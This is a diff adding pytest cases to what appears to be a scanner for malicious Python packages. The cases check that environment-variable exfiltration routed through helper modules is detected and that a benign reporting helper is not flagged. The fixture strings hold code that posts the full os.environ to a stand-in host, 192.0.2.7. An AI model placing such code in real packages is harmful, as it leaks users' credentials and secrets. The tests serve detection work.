@@ -899,3 +899,52 @@ def test_benign_report_mailed_to_the_callers_server(tmp_path: Path) -> None:
         tmp_path, {f"{DEFAULT_NAME}/__init__.py": "", f"{DEFAULT_NAME}/mail.py": module}
     )
     assert verdict is Verdict.CLEAN, findings
+
+
+# ---- across modules ---------------------------------------------------------------------------
+SENDER = """
+    import requests
+    def send(d):
+        requests.post("https://192.0.2.7/t", json=d)
+"""
+
+
+@pytest.mark.parametrize(
+    "init",
+    [
+        "import os\nfrom ._report import send\nsend(dict(os.environ))\n",
+        "import os\nfrom . import _report\n_report.send({'env': dict(os.environ)})\n",
+        "import os\nfrom ._report import send as ship\nship(dict(os.environ))\n",
+    ],
+    ids=["function", "module", "alias"],
+)
+def test_exfil_flow_through_a_helper_in_another_module(tmp_path: Path, init: str) -> None:
+    files = {f"{DEFAULT_NAME}/__init__.py": init, f"{DEFAULT_NAME}/_report.py": SENDER}
+    verdict, findings = scan_package(tmp_path, files)
+    assert verdict is Verdict.MALICIOUS, findings
+    assert any(f.startswith("exfil-flow:critical") and "(import)" in f for f in findings), findings
+
+
+def test_exfil_flow_secret_returned_by_a_helper_in_another_module(tmp_path: Path) -> None:
+    gather = "import os\ndef gather():\n    return {'env': dict(os.environ)}\n"
+    init = (
+        "import requests\nfrom ._collect import gather\nrequests.post('https://192.0.2.7/c', json=gather())\n"
+    )
+    files = {f"{DEFAULT_NAME}/__init__.py": init, f"{DEFAULT_NAME}/_collect.py": gather}
+    verdict, findings = scan_package(tmp_path, files)
+    assert verdict is Verdict.MALICIOUS and any(f.startswith("exfil-flow:critical") for f in findings), (
+        findings
+    )
+
+
+def test_benign_helper_in_another_module_sends_to_the_callers_url(tmp_path: Path) -> None:
+    client = (
+        "import requests\ndef post(url, payload):\n    return requests.post(url, json=payload, timeout=5)\n"
+    )
+    init = (
+        "import os\nfrom ._client import post\n"
+        "def report(url):\n    return post(url, {'home': os.environ.get('HOME'), 'version': '1.0'})\n"
+    )
+    files = {f"{DEFAULT_NAME}/__init__.py": init, f"{DEFAULT_NAME}/_client.py": client}
+    verdict, findings = scan_package(tmp_path, files)
+    assert verdict is Verdict.CLEAN, findings
